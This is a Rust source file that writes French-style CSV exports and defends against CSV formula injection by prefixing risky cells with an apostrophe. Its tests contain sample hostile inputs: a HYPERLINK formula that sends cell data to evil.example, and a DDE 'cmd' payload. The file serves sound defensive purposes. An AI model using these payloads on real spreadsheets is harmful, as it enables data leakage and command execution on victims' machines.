//! The one CSV writer of the product: every export a spreadsheet opens
//! (statistics, the season review, registrations) is written here, the way
//! French spreadsheets read it: `;` between cells, comma decimals, UTF-8
//! with a BOM (so Excel sees the accents), CRLF lines, RFC 4180 quoting.
//!
//! A cell is either text or a number the code itself wrote. A text cell
//! that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`,
//! `@`, a tab or a line break) is neutralised with a leading apostrophe,
//! which spreadsheets read as "this is text" (OWASP's advice for CSV
//! injection): a theme named `=HYPERLINK(…)` stays a name. Numbers are
//! written as they are, so `-12,5` stays a number to add up.

/// One cell of an export.
#[derive(Debug, Clone, PartialEq)]
pub struct Cell(Kind);

#[derive(Debug, Clone, PartialEq)]
enum Kind {
    /// Anything a person typed, or a label: neutralised when written.
    Text(String),
    /// A number formatted here, from a number: never a formula.
    Number(String),
}

impl Cell {
    /// A text cell: a name, a title, a label, a date written out.
    pub fn text(s: impl Into<String>) -> Cell {
        Cell(Kind::Text(s.into()))
    }

    /// An empty cell (no value: not zero).
    pub fn empty() -> Cell {
        Cell(Kind::Number(String::new()))
    }

    /// A whole number.
    pub fn int(n: impl Into<i64>) -> Cell {
        Cell(Kind::Number(n.into().to_string()))
    }

    /// A decimal with `places` digits after a comma: `19,33`, `-12,50`; no
    /// thousands separator, so every spreadsheet reads it as a number.
    pub fn decimal(v: f64, places: usize) -> Cell {
        if !v.is_finite() {
            return Cell::empty();
        }
        let s = format!("{v:.places$}").replace('.', ",");
        // "-0,00" is zero.
        let s = if s.starts_with('-') && s[1..].chars().all(|c| c == '0' || c == ',') {
            s[1..].to_string()
        } else {
            s
        };
        Cell(Kind::Number(s))
    }

    /// An amount of money in cents, exact: `1234,56`, `-0,05`.
    pub fn cents(c: i64) -> Cell {
        let sign = if c < 0 { "-" } else { "" };
        let a = c.unsigned_abs();
        Cell(Kind::Number(format!("{sign}{},{:02}", a / 100, a % 100)))
    }

    /// A decimal, or an empty cell when there is none.
    pub fn opt_decimal(v: Option<f64>, places: usize) -> Cell {
        v.map_or_else(Cell::empty, |v| Cell::decimal(v, places))
    }

    /// The value as a page would show it (no quoting, no apostrophe).
    pub fn as_str(&self) -> &str {
        match &self.0 {
            Kind::Text(s) | Kind::Number(s) => s,
        }
    }

    /// The cell as written in the file.
    fn write(&self, out: &mut String) {
        let (s, neutralise) = match &self.0 {
            Kind::Text(s) => (s.as_str(), is_formula_like(s)),
            Kind::Number(s) => (s.as_str(), false),
        };
        let quote = s.contains([';', '"', '\n', '\r']) || neutralise;
        if quote {
            out.push('"');
        }
        if neutralise {
            out.push('\'');
        }
        for c in s.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        if quote {
            out.push('"');
        }
    }
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::text(s)
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::text(s)
    }
}

/// Whether a spreadsheet might take the text for a formula: its first
/// character, or its first after spaces (LibreOffice may trim them), is
/// one that starts a formula or a DDE call, or it starts with a tab or a
/// line break.
fn is_formula_like(s: &str) -> bool {
    const STARTS: [char; 4] = ['=', '+', '-', '@'];
    if s.starts_with(['\t', '\r', '\n']) || s.starts_with(STARTS) {
        return true;
    }
    s.trim_start_matches([' ', '\u{a0}'])
        .starts_with(STARTS.as_slice())
        || s.starts_with(['＝', '＋', '－', '＠'])
}

/// A file being written: rows of cells.
#[derive(Debug, Clone)]
pub struct Csv {
    out: String,
}

impl Default for Csv {
    fn default() -> Csv {
        Csv::new()
    }
}

impl Csv {
    /// An empty file: just the BOM.
    pub fn new() -> Csv {
        Csv {
            out: String::from("\u{feff}"),
        }
    }

    /// Adds a line.
    pub fn row<C: Into<Cell>>(&mut self, cells: impl IntoIterator<Item = C>) {
        for (i, c) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(';');
            }
            c.into().write(&mut self.out);
        }
        self.out.push_str("\r\n");
    }

    /// The whole file.
    pub fn finish(self) -> String {
        self.out
    }
}

/// A table in one go: a header of labels and rows of cells.
pub fn table<H: Into<Cell>>(head: impl IntoIterator<Item = H>, rows: &[Vec<Cell>]) -> String {
    let mut csv = Csv::new();
    csv.row(head);
    for r in rows {
        csv.row(r.iter().cloned());
    }
    csv.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(cells: Vec<Cell>) -> String {
        let mut c = Csv::new();
        c.row(cells);
        c.finish().trim_start_matches('\u{feff}').to_string()
    }

    #[test]
    fn text_that_could_run_is_neutralised_and_numbers_stay_numbers() {
        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Voir\")";
        assert_eq!(
            line(vec![Cell::text(hostile)]),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\"\r\n"
        );
        for s in [
            "+33 6 12",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "  =1+1",
            "＝1+1",
        ] {
            let written = line(vec![Cell::text(s)]);
            assert!(written.starts_with("\"'"), "{s:?} gave {written:?}");
        }
        assert_eq!(
            line(vec![
                Cell::text("Anne"),
                Cell::int(-12),
                Cell::decimal(-12.5, 1),
                Cell::decimal(19.333, 2),
                Cell::opt_decimal(None, 2),
                Cell::decimal(-0.001, 2),
                Cell::text("IA; images"),
                Cell::text("dit \"Nono\""),
                Cell::text("a-b"),
            ]),
            "Anne;-12;-12,5;19,33;;0,00;\"IA; images\";\"dit \"\"Nono\"\"\";a-b\r\n"
        );
        assert_eq!(Cell::text("=1").as_str(), "=1");
        assert_eq!(Cell::decimal(f64::NAN, 2), Cell::empty());
    }

    #[test]
    fn a_table_has_a_bom_and_crlf_lines() {
        let t = table(
            ["Thème", "Participants"],
            &[vec!["IA".into(), Cell::int(3)]],
        );
        assert_eq!(t, "\u{feff}Thème;Participants\r\nIA;3\r\n");
    }
}
